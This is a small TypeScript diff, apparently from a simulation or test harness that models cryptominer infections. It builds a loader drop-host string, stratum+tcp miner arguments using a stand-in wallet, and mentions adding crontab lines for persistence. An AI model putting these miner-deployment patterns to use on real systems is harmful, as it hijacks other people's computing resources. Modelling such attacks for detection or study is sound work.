@@ -3,7 +3,7 @@ import { standInWallet } from '../infection/infection.ts';
 
 /** A download host as loaders name it: a public bare address without TLS. */
 export const dropHost = `${world.loader}:${world.loaderPort}`;
-export const poolUrl = `stratum+tcp://${world.pool}:${world.poolPort}`;
+const poolUrl = `stratum+tcp://${world.pool}:${world.poolPort}`;
 export const minerWords = `-o ${poolUrl} -u ${standInWallet} -p x -k`;
 
 /** Adds lines behind those that stand in a crontab. */
